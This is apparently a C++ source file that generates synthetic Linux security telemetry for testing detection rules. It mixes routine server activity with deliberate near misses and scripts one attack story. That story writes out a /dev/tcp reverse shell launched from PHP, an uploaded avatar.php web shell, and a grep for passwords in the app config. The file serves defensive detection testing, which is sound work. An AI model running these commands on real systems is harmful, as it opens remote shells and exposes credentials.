// The background holds near misses on purpose: a download into a file, a port tried by /dev/tcp, keys and
// cron jobs written by those whose task it is. A rule that fires on them is too wide.
#include "daemon/demo/linux_events.h"

#include "daemon/base/json_writer.h"

#include <array>

namespace alarum::demo {
namespace {

constexpr std::string_view bash = "/usr/bin/bash";
constexpr std::string_view dash = "/usr/bin/dash";
constexpr std::string_view cron = "/usr/sbin/cron";
constexpr std::string_view nginx = "/usr/sbin/nginx";
constexpr std::string_view php = "/usr/sbin/php-fpm8.2";
constexpr std::string_view sshd = "/usr/sbin/sshd";
constexpr std::string_view systemd = "/usr/lib/systemd/systemd";

constexpr std::array<std::string_view, 3> hosts = {"web-01", "web-02", "jump-01"};
constexpr std::array<std::string_view, 3> people = {"anna", "ben", "deploy"};
constexpr std::string_view somebody = "{user}";

struct ProcessStart {
  unsigned weight;
  std::string_view image;
  std::string_view command_line;
  std::string_view parent;
  std::string_view user;
};

constexpr std::array processes = {
    ProcessStart{8, "/usr/bin/ls", "ls -l /srv/www", bash, somebody},
    ProcessStart{6, "/usr/bin/git", "git -C /srv/www/app pull --ff-only", bash, "deploy"},
    ProcessStart{6, "/usr/bin/less", "less /var/log/nginx/error.log", bash, somebody},
    ProcessStart{8, dash, "sh -c /usr/bin/php /srv/www/app/bin/console queue:work --once", cron, "www-data"},
    ProcessStart{8, "/usr/bin/php8.2", "/usr/bin/php /srv/www/app/bin/console queue:work --once", dash,
                 "www-data"},
    ProcessStart{3, php, "php-fpm: pool www", php, "www-data"},
    ProcessStart{3, nginx, "nginx: worker process", nginx, "www-data"},
    ProcessStart{3, "/usr/bin/systemctl", "systemctl reload nginx", bash, "root"},
    ProcessStart{3, "/usr/bin/pg_dump", "pg_dump -Fc -f /srv/backup/app-{number}.dump app", dash, "deploy"},
    ProcessStart{3, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", systemd, "root"},
    ProcessStart{2, "/usr/bin/convert",
                 "convert /tmp/upload-{number}.png -resize 640x /srv/www/media/{word}.png", php, "www-data"},
    // Near misses.
    ProcessStart{2, bash, "bash -i", sshd, somebody},
    ProcessStart{2, bash, R"(bash -c "echo > /dev/tcp/192.0.2.20/5432")", bash, "deploy"},
    ProcessStart{2, "/usr/bin/curl", "curl -fsSLo /tmp/{word}-{number}.json https://example.net/{word}.json",
                 bash, somebody},
    ProcessStart{2, dash, R"(sh -c "curl -fsS https://example.net/status.json | jq .items")", cron, "deploy"},
    ProcessStart{1, "/usr/bin/wget",
                 "wget -q -O /srv/www/vendor/{word}.tar.gz https://example.org/{word}.tar.gz", bash,
                 "deploy"},
    ProcessStart{1, "/usr/bin/crontab", "crontab -l", bash, somebody},
    ProcessStart{1, "/usr/bin/ssh-copy-id", "ssh-copy-id deploy@web-02", bash, somebody},
    ProcessStart{1, "/usr/bin/tail", "tail -n 200 /var/log/auth.log", bash, "root"},
    ProcessStart{1, "/usr/bin/rm", "rm -f /var/log/auth.log.4.gz", dash, "root"},
};

struct FileWrite {
  unsigned weight;
  std::string_view image;
  std::string_view path;
  std::string_view user;
};

constexpr std::array files = {
    FileWrite{10, php, "/var/lib/php/sessions/sess_{number}", "www-data"},
    FileWrite{8, nginx, "/var/lib/nginx/proxy/{number}", "www-data"},
    FileWrite{5, "/usr/bin/git", "/srv/www/app/.git/FETCH_HEAD", "deploy"},
    FileWrite{4, php, "/srv/www/app/cache/{word}-{number}.php", "www-data"},
    FileWrite{4, "/usr/bin/vim.basic", "/home/{user}/{word}.md", somebody},
    FileWrite{3, "/usr/sbin/logrotate", "/var/log/nginx/access.log.1", "root"},
    // Near misses.
    FileWrite{1, "/usr/bin/dpkg", "/etc/cron.daily/logrotate.dpkg-new", "root"},
    FileWrite{1, "/usr/bin/vim.basic", "/etc/cron.d/backup", "root"},
    FileWrite{1, "/usr/bin/crontab", "/var/spool/cron/crontabs/{user}", somebody},
    FileWrite{1, "/usr/bin/ssh-copy-id", "/home/{user}/.ssh/authorized_keys", somebody},
    FileWrite{1, php, "/var/www/.ssh/known_hosts", "www-data"},
    FileWrite{2, bash, "/var/log/backup-{number}.log", "root"},
    FileWrite{1, "/usr/sbin/ldconfig", "/etc/ld.so.cache", "root"},
};

struct Field {
  std::string_view name;
  std::string_view value;
};

StoryEvent event_of(std::string_view kind, Scene& scene, std::string_view host,
                    std::span<const Field> fields) {
  StoryEvent out{kind, {}};
  JsonWriter json(out.line);
  json.begin_object().key("@timestamp").text(format_time(scene.time)).key("Computer").text(host);
  json.key("event_kind").text(kind);
  json.key("ProcessId").number(static_cast<std::int64_t>(1000 + scene.random.below(4'000'000)));
  json.key("ParentProcessId").number(static_cast<std::int64_t>(700 + scene.random.below(60'000)));
  for (const Field& field : fields) json.key(field.name).text(field.value);
  json.end_object();
  return out;
}

StoryEvent process_event(const ProcessStart& start, Scene& scene, std::string_view host) {
  const std::string_view person = scene.random.pick(std::span<const std::string_view>(people));
  const std::string command_line = filled(start.command_line, person, scene.random);
  const std::array fields = {Field{"Image", start.image}, Field{"CommandLine", command_line},
                             Field{"ParentImage", start.parent},
                             Field{"User", start.user == somebody ? person : start.user}};
  return event_of(linux_process_creation, scene, host, fields);
}

StoryEvent file_event(const FileWrite& write, Scene& scene, std::string_view host) {
  const std::string_view person = scene.random.pick(std::span<const std::string_view>(people));
  const std::string path = filled(write.path, person, scene.random);
  const std::array fields = {Field{"Image", write.image}, Field{"TargetFilename", path},
                             Field{"User", write.user == somebody ? person : write.user}};
  return event_of(linux_file_event, scene, host, fields);
}

StoryEvent everyday_process(Scene& scene) {
  const ProcessStart& start = pick_weighted(std::span<const ProcessStart>(processes), scene.random);
  return process_event(start, scene, scene.random.pick(std::span<const std::string_view>(hosts)));
}

StoryEvent everyday_file(Scene& scene) {
  const FileWrite& write = pick_weighted(std::span<const FileWrite>(files), scene.random);
  return file_event(write, scene, scene.random.pick(std::span<const std::string_view>(hosts)));
}

StoryEvent reverse_shell(Scene& scene) {
  return process_event({1, bash, R"(bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")", php, "www-data"},
                       scene, "web-01");
}

StoryEvent script_uploaded(Scene& scene) {
  return file_event({1, php, "/srv/www/app/uploads/{number}/avatar.php", "www-data"}, scene, "web-01");
}

StoryEvent who_am_i(Scene& scene) {
  return process_event({1, "/usr/bin/id", "id", bash, "www-data"}, scene, "web-01");
}

StoryEvent search_for_secrets(Scene& scene) {
  return process_event({1, "/usr/bin/grep", "grep -ri password /srv/www/app/config", bash, "www-data"}, scene,
                       "web-01");
}

constexpr std::array background = {BackgroundKind{3, everyday_process}, BackgroundKind{2, everyday_file}};

constexpr std::array<std::string_view, 1> shell_rules = {
    "3c5a9f60-1b7e-4f5c-8f22-5b0a8f1e6d43",  // Reverse Shell Over /dev/tcp
};
constexpr std::array<EventMaker, 4> shell_steps = {script_uploaded, reverse_shell, who_am_i,
                                                   search_for_secrets};
constexpr std::array attack_scripts = {AttackScript{
    {"reverse-shell", Platform::linux_hosts, "T1059.004",
     "the web server's PHP starts a shell whose input and output are the attacker's", shell_rules},
    shell_steps}};

}  // namespace

Script linux_script() { return {background, attack_scripts}; }

}  // namespace alarum::demo
